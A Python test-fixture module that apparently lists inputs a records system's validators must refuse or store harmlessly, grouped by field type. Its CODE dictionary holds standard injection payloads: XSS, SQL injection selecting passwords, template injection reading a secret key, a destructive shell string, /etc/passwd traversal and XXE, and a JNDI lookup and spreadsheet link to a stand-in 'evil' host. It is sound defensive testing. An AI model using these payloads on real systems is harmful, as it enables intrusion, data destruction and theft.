"""Values nobody should send, by what is wrong with them."""

from __future__ import annotations

from typing import Any

NESTED: Any = "x"
for _ in range(400):
    NESTED = {"a": [NESTED]}

# Harmless as text, dangerous to whoever interprets it.
CODE = {
    "html": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x="',
    "image": "<img src=x onerror=alert(1)>",
    "entity": "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "javascript": "javascript:alert(1)//",
    "sql": "'; DROP TABLE matters_act; --",
    "sql_union": "' OR 1=1 UNION SELECT password FROM registers_account --",
    "typst": '#read("/etc/passwd") #eval("1+1") $x^2$ *粗* _斜_ @label',
    "typst_import": '#import "@preview/evil:0.1.0": *',
    "jinja": "{{ 7*7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "format": "{0.__class__} %(x)s %s ${HOME} $(id) `id`",
    "shell": "; rm -rf / | cat /etc/passwd &",
    "path": "../../../etc/passwd",
    "csv": '=HYPERLINK("http://evil","x")',
    "template": "<!--#exec cmd='id'--> <?php phpinfo(); ?>",
    "xml": "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "rich": "[red]粗[/red] [link=http://evil]x[/link]",
    "log": "${jndi:ldap://evil/x}",
}
# Odd, but things people and machines really write.
ODD = {
    "full_width_digits": "１２３４５６",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "rare_han": "𠮷𠀀㐀",
    "mojibake": "ÃÂ¥ï¿½ä¸­æ–‡",
    "gbk_as_latin": "ÖÐ¹ú",
    "replacement": "处罚\ufffd决定",
    "combining": "a" + "\u0301" * 40,
    "decomposed": "e\u0301\u0323",
    "right_to_left": "שלום العربية",
    "long_word": "字" * 190,
    "null_word": "null",
    "true_word": "true",
    "nan_word": "NaN",
    "zero": "0",
    "quotes": "\"'“”‘’«»\\",
    "percent": "%00%0a%c0%ae",
}
HARMLESS = CODE | ODD

# Characters that no field keeps.
UNKEEPABLE = {
    "nul": "处\x00罚",
    "bell": "处\x07罚",
    "escape": "\x1b[31m红\x1b[0m",
    "delete": "处\x7f罚",
    "c1_control": "处\x85\x9b罚",
    "line_separator": "处\u2028罚\u2029",
    "bidi_override": "处\u202e罚",
    "bidi_isolate": "处\u2066罚\u2069",
    "noncharacter": "处\uffff罚",
    "high_surrogate": "处\ud800罚",
    "low_surrogate": "处\udfff罚",
    "swapped_surrogates": "\udc00\ud800",
    "annotation": "处\ufff9罚\ufffb",
}

_ANY = {
    "nested": NESTED,
    "list": [1, 2],
    "dict": {"a": 1},
    "null_list": [None],
    "float": 1.5,
    "nan": float("nan"),
}
_HUGE = "甲" * 1_000_000

# For each kind of field: values that are always refused.
REFUSED: dict[str, dict[str, Any]] = {
    "text": {**_ANY, **UNKEEPABLE, "number": 5, "flag": True, "huge": _HUGE},
    "integer": {
        **_ANY, "negative": -1, "vast": 10**30, "absurd": 10**5000, "words": "很多", "huge": "9" * 1_000_000,
        "infinite": float("inf"), "flag": True, "empty": "", "date": "2026-11-20", "digits": "9" * 4000,
        "exponent": "1e5", "hexadecimal": "0x10", "fraction": "1.5", **UNKEEPABLE,
    },
    "date": {
        **_ANY, "year_1": "0001-01-01", "year_9999": "9999-12-31", "no_such_day": "2026-02-30", "empty": "",
        "moment": "2026-11-20T10:00:00+08:00", "words": "昨天", "huge": "2" * 1_000_000, "flag": True,
        "number": 20261120, "timestamp": 1_700_000_000, "midnight_timestamp": 86_400 * 20_000,
        "timestamp_text": "1728000000", "slashes": "20/11/2026", "vast": 10**30, "infinite": float("inf"),
        **UNKEEPABLE,
    },
    "moment": {
        **_ANY, "year_1": "0001-01-01T00:00:00+08:00", "year_9999": "9999-12-31T23:59:59-12:00", "empty": "",
        "naive": "2026-11-20T10:00:00", "day_only": "2026-11-20", "words": "昨天", "flag": True,
        "huge": "2" * 1_000_000, "timestamp": 1_700_000_000, "timestamp_text": "1700000000",
        "no_such_hour": "2026-11-20T25:00:00+08:00", "offset": "2026-11-20T10:00:00+99:00", "vast": 10**30,
        **UNKEEPABLE,
    },
    "uuid": {
        **_ANY, "words": "张伟", "empty": "", "short": "01890000-0000", "number": 5, "flag": True,
        "huge": "0" * 1_000_000, "path": "../../x", "sql": "' OR 1=1", **UNKEEPABLE,
    },
    "flag": {**_ANY, "words": "可能", "number": 2, "empty": "", "huge": _HUGE, **UNKEEPABLE},
    "choice": {
        **_ANY, "unknown": "__nothing__", "empty": "", "number": 1, "flag": True, "huge": _HUGE,
        "member_name": "PENALTY", **CODE, **UNKEEPABLE,
    },
    "list": {
        "text": "一段文字", "number": 5, "dict": {"0": "x"}, "flag": True, "nested": NESTED, "null_list": [None],
        "empty_rows": [{}] * 3, "ten_thousand": [{}] * 10_000, "lists": [[[[]]]], "huge": _HUGE,
    },
    "group": {"text": "一段文字", "number": 5, "list": [1], "flag": True, "nested": NESTED},
}  # fmt: skip

EXTRA_KEYS = (
    "extra",
    "__proto__",
    "constructor",
    "a.b.c",
    "",
    " ",
    "<script>",
    "kind\x00",
    "键" * 10_000,
    "\ud800",
)
